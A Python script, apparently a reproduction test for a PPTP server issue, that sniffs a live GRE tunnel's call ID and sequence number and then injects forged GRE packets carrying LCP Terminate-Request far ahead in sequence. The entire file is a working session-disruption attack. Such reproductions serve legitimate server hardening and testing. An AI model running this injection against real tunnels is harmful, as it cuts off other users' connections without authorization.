#!/usr/bin/env python3
"""Forged GRE sequence jump (issue 13): learn a live call's key and sequence
number from the client's own GRE packets on IFACE (a ping through the tunnel
makes some), then send COUNT consecutive packets far ahead of it, as the
client's address, each carrying an LCP Terminate-Request.

  gre_jump.py IFACE SERVER TUNNEL_PEER [COUNT]
Prints "forged call=N seq=S count=C". Exit 1 if no GRE packet was seen."""
import socket
import struct
import subprocess
import sys
import time

iface, server, peer = sys.argv[1], sys.argv[2], sys.argv[3]
count = int(sys.argv[4]) if len(sys.argv) > 4 else 8
srv = socket.inet_aton(server)
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))   # ETH_P_ALL: outgoing too
sniff.bind((iface, 0))
sniff.settimeout(0.5)
deadline = time.time() + 60
ping = None
call = seq = None
while call is None and time.time() < deadline:
    if ping is None or ping.poll() is not None:
        ping = subprocess.Popen(["ping", "-c", "3", "-i", "0.2", peer],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        frame = sniff.recv(65535)
    except socket.timeout:
        continue
    ip = frame[14:]
    if frame[12:14] != b"\x08\x00" or len(ip) < 20 or ip[9] != 47 or ip[16:20] != srv:
        continue
    gre = ip[(ip[0] & 15) * 4:]
    if len(gre) >= 12 and gre[0] & 0x10:          # S bit: a data packet
        call = struct.unpack("!H", gre[6:8])[0]
        seq = struct.unpack("!I", gre[8:12])[0]
if ping is not None:
    ping.wait()
if call is None:
    print("gre_jump: no GRE data packet seen on", iface)
    sys.exit(1)
term = bytes([0xFF, 0x03, 0xC0, 0x21, 0x05, 0x42, 0x00, 0x04])   # LCP Terminate-Request
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
for i in range(count):
    s = (seq + 100000 + i) & 0xFFFFFFFF
    raw.sendto(struct.pack("!BBHHHI", 0x30, 0x01, 0x880B, len(term), call, s) + term, (server, 0))
print("forged call=%d seq=%d count=%d" % (call, seq, count))
